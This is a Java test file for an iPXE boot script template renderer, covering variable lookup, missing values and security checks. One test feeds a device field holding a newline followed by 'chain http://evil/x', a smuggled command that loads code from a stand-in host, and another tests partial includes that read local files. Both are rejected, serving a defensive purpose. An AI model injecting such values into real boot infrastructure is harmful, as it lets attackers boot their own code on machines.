package io.mercury.common.bootscript;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.mercury.common.bootscript.BootScriptRendering.Rendered;
import io.mercury.common.bootscript.BootScriptRendering.UnsafeValue;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class BootScriptTemplateTest {
  static final Map<String, Object> DEVICE =
      Map.of(
          "mercury_id", "dev-1",
          "dmi", Map.of("sys_vendor", "HP"),
          "interfaces",
              List.of(
                  Map.of("address", "52:54:00:00:00:01", "devname", "eth0", "mtu", 9000),
                  Map.of("address", "52:54:00:00:00:02", "devname", "eth1")));

  static BootScriptRendering render(String template, Map<String, ?> document) throws BootScriptException {
    return BootScriptTemplate.compile(template).render(document);
  }

  static Rendered rendered(String template, Map<String, ?> document) throws BootScriptException {
    BootScriptRendering r = render(template, document);
    assertThat(r).isInstanceOf(Rendered.class);
    return (Rendered) r;
  }

  @Test
  void valuesAreWrittenAsTheyAreWithoutHtmlEscaping() throws Exception {
    Rendered r = rendered("#!ipxe\necho {{mercury_id}} {{dmi.sys_vendor}} {{{mercury_id}}} {{& mercury_id}} <&>\n", Map.of("mercury_id", "a<b>&c", "dmi", Map.of("sys_vendor", "R&D")));

    assertThat(r.script()).isEqualTo("#!ipxe\necho a<b>&c R&D a<b>&c a<b>&c <&>\n");
    assertThat(r.missing()).isEmpty();
  }

  @Test
  void missingVariablesAreListedOnceInTheOrderTheyAreRendered() throws Exception {
    Rendered r = rendered("#!ipxe\nkernel x ip={{ip}} vendor={{dmi.sys_vendor}} model={{dmi.product_name}} again={{ip}} {{nope.deeper.still}}\n", DEVICE);

    assertThat(r.script()).isEqualTo("#!ipxe\nkernel x ip= vendor=HP model= again= \n");
    assertThat(r.missing()).containsExactly("ip", "dmi.product_name", "nope.deeper.still");
  }

  @Test
  void listsAreIndexedAndAnIndexPastTheEndIsMissing() throws Exception {
    Rendered r = rendered("{{interfaces.0.address}} {{interfaces.1.devname}} {{interfaces.2.address}} {{interfaces.x}}", DEVICE);

    assertThat(r.script()).isEqualTo("52:54:00:00:00:01 eth1  ");
    assertThat(r.missing()).containsExactly("interfaces.2.address", "interfaces.x");
  }

  @Test
  void insideASectionNamesAreRelativeToItAndFallBackToTheDocument() throws Exception {
    Rendered r = rendered("{{#interfaces}}{{devname}}={{address}} mtu={{mtu}} on {{mercury_id}}\n{{/interfaces}}", DEVICE);

    assertThat(r.script()).isEqualTo("eth0=52:54:00:00:00:01 mtu=9000 on dev-1\neth1=52:54:00:00:00:02 mtu= on dev-1\n");
    assertThat(r.missing()).containsExactly("mtu");
  }

  @Test
  void aDottedNameFoundInASectionDoesNotFallBackToTheDocument() throws Exception {
    // the Mustache spec: once the first part is found, the rest must be found under it
    Map<String, Object> document = Map.of("dmi", Map.of("sys_vendor", "HP"), "disks", List.of(Map.of("dmi", Map.of())));

    Rendered r = rendered("{{#disks}}[{{dmi.sys_vendor}}]{{/disks}}", document);

    assertThat(r.script()).isEqualTo("[]");
    assertThat(r.missing()).containsExactly("dmi.sys_vendor");
  }

  @Test
  void nullIsMissingButAnEmptyValueIsNot() throws Exception {
    Map<String, Object> document = new HashMap<>();
    document.put("unknown", null);
    document.put("blank", "");
    document.put("none", List.of());
    document.put("zero", 0);
    document.put("no", false);

    Rendered r = rendered("[{{unknown}}][{{blank}}][{{none}}][{{zero}}][{{no}}]", document);

    assertThat(r.script()).isEqualTo("[][][[]][0][false]");
    assertThat(r.missing()).containsExactly("unknown");
  }

  @Test
  void sectionsOnMissingDataAreNotMissingAndNeitherIsWhatTheySkip() throws Exception {
    Rendered r = rendered("{{#bmc}}ipmi {{bmc.address}} {{user}}{{/bmc}}{{^bmc}}no bmc{{/bmc}}{{#dmi}} {{sys_vendor}}{{/dmi}}", DEVICE);

    assertThat(r.script()).isEqualTo("no bmc HP");
    assertThat(r.missing()).isEmpty();
  }

  @Test
  void javaObjectsAreNotSearchedByReflection() throws Exception {
    // mustache.java's default handler answered these with String.length() and Map.size()
    Rendered r = rendered("{{#mercury_id}}{{length}}{{/mercury_id}}|{{#dmi}}{{size}}{{empty}}{{/dmi}}|{{class}}", DEVICE);

    assertThat(r.script()).isEqualTo("||");
    assertThat(r.missing()).containsExactly("length", "size", "empty", "class");
  }

  @Test
  void anUnsafeValueMakesTheRenderingOneNotToServe() throws Exception {
    BootScriptRendering r = render("#!ipxe\necho {{mercury_id}} {{ip}} {{dmi.sys_vendor}}\n", Map.of("mercury_id", "dev-1", "dmi", Map.of("sys_vendor", "HP\nchain http://evil/x")));

    assertThat(r).isEqualTo(new UnsafeValue("dmi.sys_vendor", "holds a control character (U+000A), which would start a new iPXE command or word"));
    assertThat(((UnsafeValue) r).message()).startsWith("the value of {{dmi.sys_vendor}} holds a control character");
  }

  @Test
  void aTemplateThatDoesNotCompileIsRefusedWhateverTheDevice() {
    assertThatThrownBy(() -> BootScriptTemplate.compile("#!ipxe\necho {{#dmi}}\n"))
        .isInstanceOf(BootScriptException.class)
        .hasMessageContaining("boot.script");
  }

  /**
   * mustache.java reads a partial from the working directory or the class path of the process that
   * renders; a boot script could so copy the boot service's files into a script served to anyone.
   * {@code mercury-version.properties} is on this module's class path.
   */
  @Test
  void partialsAndParentsAreRefused() throws Exception {
    assertThatThrownBy(() -> BootScriptTemplate.compile("#!ipxe\n{{> mercury-version.properties}}\n"))
        .isInstanceOf(BootScriptException.class)
        .hasMessageContaining("a boot script cannot include another template");
    assertThatThrownBy(() -> BootScriptTemplate.compile("#!ipxe\n{{< mercury-version.properties}}{{/mercury-version.properties}}\n"))
        .isInstanceOf(BootScriptException.class)
        .hasMessageContaining("a boot script cannot include another template");
    BootScriptTemplate dynamic = BootScriptTemplate.compile("#!ipxe\n{{>*name}}\n");
    assertThatThrownBy(() -> dynamic.render(Map.of("name", "mercury-version.properties")))
        .isInstanceOf(BootScriptException.class)
        .hasMessageContaining("a boot script cannot include another template");
  }

  @Test
  void oneTemplateRendersManyDevicesEachWithItsOwnFindings() throws Exception {
    BootScriptTemplate template = BootScriptTemplate.compile("ip={{ip}} id={{mercury_id}}");

    assertThat(template.render(Map.of("mercury_id", "a"))).isEqualTo(new Rendered("ip= id=a", List.of("ip")));
    assertThat(template.render(Map.of("mercury_id", "b", "ip", "10.0.0.2"))).isEqualTo(new Rendered("ip=10.0.0.2 id=b", List.of()));
    assertThat(template.source()).isEqualTo("ip={{ip}} id={{mercury_id}}");
  }
}
